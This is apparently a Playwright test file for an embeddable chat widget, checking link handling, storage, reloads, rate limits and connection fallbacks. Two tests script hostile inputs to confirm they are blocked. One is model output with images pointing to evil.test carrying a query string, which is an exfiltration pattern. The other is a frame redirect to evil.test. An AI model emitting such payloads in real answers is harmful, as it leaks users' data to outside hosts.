"""The chat in the frame: what a visitor does there, and what the world around it may not do through it."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext

from tests.browser.embed_world import Told
from tests.browser.host_visit import FrameChat, HostVisit
from tests.browser.two_models import says

pytestmark = pytest.mark.browser
LAUNCHER_NAME = "document.querySelector('parley-embed').shadowRoot.querySelector('.launcher').ariaLabel"


@pytest.fixture(scope="module", autouse=True)
def profile(told: Told) -> None:
    """One embed."""
    told.world.profile("acme", greeting="Hello!", starters=("What can you do?",), title="Help")


def opened(context: BrowserContext, told: Told, embed: str = "acme") -> tuple[HostVisit, FrameChat]:
    """A shop with the chat open."""
    visit = told.world.visit(context, embed=embed)
    return visit, visit.open()


def menu(chat: FrameChat, action: str) -> None:
    """Choose something from the menu."""
    chat.frame.locator(".embed-menu > button").click()
    chat.frame.locator(f".embed-menu-item[data-action={action}]").click()


def test_s18_links_open_tabs_and_the_frame_cannot_lead_the_host_away(context: BrowserContext, told: Told) -> None:
    told.model.play(says(f"See [the shop]({told.world.origin('blog.test')}/there)."))
    told.world.put("blog.test", "/there", "<p id=there>There</p>")
    visit, chat = opened(context, told)
    chat.answered("Where?")
    link = chat.frame.locator("[data-answer] a").first
    assert link.get_attribute("rel") == "noopener noreferrer nofollow ugc"
    with context.expect_page() as tab:
        link.click()
    tab.value.wait_for_load_state()
    assert tab.value.evaluate("() => [opener, document.referrer]") == [None, ""]
    refused = (
        "() => { try { top.location = 'https://evil.test/'; return 'led away' } catch (error) { return error.name } }"
    )
    assert chat.frame.evaluate(refused) == "SecurityError"
    visit.page.wait_for_timeout(300)
    assert visit.page.url == visit.url


def test_s19_a_picture_elsewhere_is_a_link_and_nothing_is_fetched(context: BrowserContext, told: Told) -> None:
    evil = told.world.origin("evil.test")
    told.model.play(says(f"![secret]({evil}/steal.png?q=words) and ![]({evil}/two.png) <img src={evil}/three.png>"))
    told.world.forget()
    visit, chat = opened(context, told)
    chat.answered("Show me")
    links = chat.frame.locator("[data-answer] a.picture-link")
    assert [link.get_attribute("href") for link in links.all()] == [f"{evil}/steal.png?q=words", f"{evil}/two.png"]
    assert "secret" in links.first.inner_text()
    assert "evil.test" in links.first.inner_text()
    visit.page.wait_for_timeout(500)
    assert [seen.url for seen in told.world.at_hosts() if "evil" in seen.url] == []
    assert chat.frame.locator("[data-answer] img").count() == 0


def test_nothing_is_kept_or_asked_before_the_first_question(context: BrowserContext, told: Told) -> None:
    told.world.forget()
    _, chat = opened(context, told)
    chat.page.wait_for_timeout(800)
    asked = [seen.path for seen in told.world.at_chat()]
    assert not [path for path in asked if path.startswith(("/embed/api", "/ws"))]
    assert [seen for seen in told.world.at_chat() if seen.set_cookies] == []
    assert chat.frame.evaluate("() => [localStorage.length, sessionStorage.length]") == [0, 0]
    assert [cookie for cookie in context.cookies() if "chat.test" in cookie.get("domain", "")] == []


def test_a_starter_asks_and_goes_and_comes_back_with_a_new_chat(context: BrowserContext, told: Told) -> None:
    told.model.play(says("Much."))
    visit, chat = opened(context, told)
    starters = chat.frame.locator(".embed-starters")
    starters.wait_for()
    starters.get_by_role("button").click()
    assert chat.wait_answer() == "Much."
    assert not starters.is_visible()
    menu(chat, "new")
    starters.wait_for(state="visible")
    assert chat.messages() == []
    visit.page.reload()
    chat = visit.open()
    chat.page.wait_for_timeout(800)
    assert chat.messages() == []  # a new chat was asked for: the old one does not come back


def test_what_was_asked_goes_on_after_a_reload_and_the_draft_is_there(context: BrowserContext, told: Told) -> None:
    told.model.play(says("One.", "Two.", "Three.", pause_s=0.6))
    visit, chat = opened(context, told)
    chat.ask("Count")
    chat.wait_until("() => document.querySelector('[data-answer]')?.text")
    chat.composer.fill("half a thought")
    visit.page.reload()
    chat = visit.open()
    assert chat.wait_answer() == "One.Two.Three."
    assert chat.composer.input_value() == "half a thought"
    assert len(chat.messages()) == 2


def test_enter_sends_shift_enter_does_not_and_stop_stops(context: BrowserContext, told: Told) -> None:
    told.model.play(says(*["word "] * 100, pause_s=0.2))
    _, chat = opened(context, told)
    chat.composer.fill("a")
    chat.composer.press("Shift+Enter")
    chat.composer.type("b")
    assert chat.composer.input_value() == "a\nb"
    composing = (
        "area => area.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true}))"
    )
    chat.composer.evaluate(composing)
    assert chat.messages() == []
    chat.composer.press("Enter")
    chat.wait_until("() => document.querySelector('[data-answer]')?.text.length > 5")
    chat.page.wait_for_timeout(500)
    chat.frame.locator("[data-action=stop]").click()
    assert chat.wait_answer().startswith("word ")
    chat.wait_until("() => document.querySelector('[data-answer]').dataset.status === 'stopped'")
    told.model.play(says("and on"))
    chat.frame.locator("[data-answer] [data-action=continue]").click()
    chat.wait_until("() => document.querySelector('[data-answer]').dataset.status === 'done'")
    assert chat.answers()[-1].endswith("and on")


def test_too_many_questions_are_told_in_place_and_the_text_is_kept(context: BrowserContext, told: Told) -> None:
    told.world.profile("few", per_visitor_minute=1)
    told.model.play(says("Yes."))
    visit, chat = opened(context, told, "few")
    visit.page.evaluate("() => document.addEventListener('parley:error', ({detail}) => window.problem = detail.code)")
    chat.answered("One?")
    chat.ask("Two?")
    chat.frame.locator(".embed-notice[data-kind=problem]").wait_for()
    assert chat.composer.input_value() == "Two?"
    assert len(chat.answers()) == 1
    assert visit.wait_until("() => window.problem") == "rate_limited"


def test_without_a_network_the_question_waits_and_goes_out_once(context: BrowserContext, told: Told) -> None:
    told.model.play(says("Here."))
    _, chat = opened(context, told)
    chat.answered("First?")
    told.world.front.cut_off = True
    told.world.front.drop()
    chat.ask("Second?")
    chat.frame.locator(".embed-notice[data-kind=waiting]").wait_for()
    told.world.front.cut_off = False
    assert chat.wait_answer(1) == "Here."
    assert len(chat.messages()) == 4
    assert chat.frame.locator(".embed-notice").inner_text() == ""


def test_where_sockets_are_blocked_plain_requests_do(context: BrowserContext, told: Told) -> None:
    told.world.front.blocks_websockets = True
    try:
        told.model.play(says("By ", "plain ", "requests.", pause_s=0.2))
        _, chat = opened(context, told)
        assert chat.answered("How?") == "By plain requests."
        assert chat.frame.evaluate("() => document.documentElement.dataset.connection") == "http"
        told.model.play(says(*["word "] * 100, pause_s=0.2))
        chat.ask("Long?")
        chat.wait_until("() => document.querySelectorAll('[data-answer]')[1]?.text.length > 5")
        chat.page.wait_for_timeout(500)
        chat.frame.locator("[data-action=stop]").click()
        chat.wait_until("() => document.querySelectorAll('[data-answer]')[1].dataset.status === 'stopped'")
    finally:
        told.world.front.blocks_websockets = False


def test_answers_that_came_while_the_panel_was_closed_are_counted(context: BrowserContext, told: Told) -> None:
    told.model.play(says("One ", "two ", "three.", pause_s=0.5))
    visit, chat = opened(context, told)
    visit.page.evaluate("() => { window.told = []; Parley.on('message', (one) => window.told.push(one)) }")
    chat.ask("Count")
    chat.wait_until("() => document.querySelector('[data-answer]')?.text")
    chat.composer.press("Escape")
    visit.wait_until(f"() => /1/.test({LAUNCHER_NAME})")
    said = visit.page.evaluate("() => window.told")
    assert [one["role"] for one in said] == ["user", "assistant"]
    assert not [one for one in said if "text" in one]
    visit.launcher.click()
    visit.wait_until(f"() => !/1/.test({LAUNCHER_NAME})")


def test_the_conversation_can_be_taken_to_a_page_of_its_own(context: BrowserContext, told: Told) -> None:
    told.model.play(says("Answer."))
    _, chat = opened(context, told)
    chat.answered("Question?")
    with context.expect_page() as tab:
        menu(chat, "away")
    page = tab.value
    page.wait_for_url("**/e/**")
    assert page.evaluate("() => opener") is None
    page.get_by_role("button").first.click()
    page.wait_for_url("**/c/**")
    page.get_by_text("Answer.").first.wait_for()


def test_a_page_of_its_own_and_a_frame_without_a_loader_are_chats(context: BrowserContext, told: Told) -> None:
    told.model.play(says("Here, too."))
    page = context.new_page()
    page.goto(f"{told.world.chat}/embed/acme?title=Other&greeting=Hi&prefill=Tell%20me&theme=dark")
    chat = FrameChat(page, page.main_frame)
    chat.wait_ready()
    assert chat.composer.input_value() == "Tell me"
    assert chat.frame.locator("h1").inner_text() == "Other"
    chat.composer.press("Enter")
    assert chat.wait_answer() == "Here, too."
    visit = told.world.visit(context, "framed", query="?greeting=Plain")
    assert visit.chat.answered("Well?") == "Here, too."
    assert visit.chat.frame.locator(".greeting").inner_text() == "Plain"


def test_s22_a_frame_without_its_origin_says_what_it_needs(context: BrowserContext, told: Told) -> None:
    visit = told.world.visit(context, "sandboxed")
    notice = visit.frame().get_by_text("allow-same-origin")
    notice.wait_for()
    notice.wait_for()


def test_the_socket_rests_after_three_minutes_and_is_taken_up_again(context: BrowserContext, told: Told) -> None:
    told.model.play(says("Still here."))
    page = context.new_page()
    page.clock.install()
    page.goto(f"{told.world.chat}/embed/acme")
    chat = FrameChat(page, page.main_frame)
    chat.wait_ready()
    chat.ask("Hello?")
    for _ in range(100):
        page.clock.run_for(100)
        if chat.answers() == ["Still here."] and chat.frame.locator("[data-answer][data-status=done]").count():
            break
    assert chat.frame.evaluate("() => document.documentElement.dataset.connection") == "socket"
    page.clock.run_for(181_000)
    assert chat.frame.evaluate("() => document.documentElement.dataset.connection") == "offline"
    assert chat.frame.locator(".embed-notice").inner_text() == ""
    chat.ask("And now?")
    for _ in range(100):
        page.clock.run_for(100)
        if chat.frame.locator("[data-answer][data-status=done]").count() == 2:
            break
    assert chat.answers() == ["Still here.", "Still here."]


def test_that_something_was_copied_is_said_once(context: BrowserContext, told: Told) -> None:
    told.model.play(says("Much."))
    _, chat = opened(context, told)
    chat.answered("What?")
    menu(chat, "copy")
    told_in = "() => [...document.querySelectorAll('[role=status]')].filter(one => /copied/i.test(one.textContent))"
    chat.wait_until(f"() => ({told_in})().length > 0")
    assert chat.frame.evaluate(f"() => ({told_in})().length") == 1
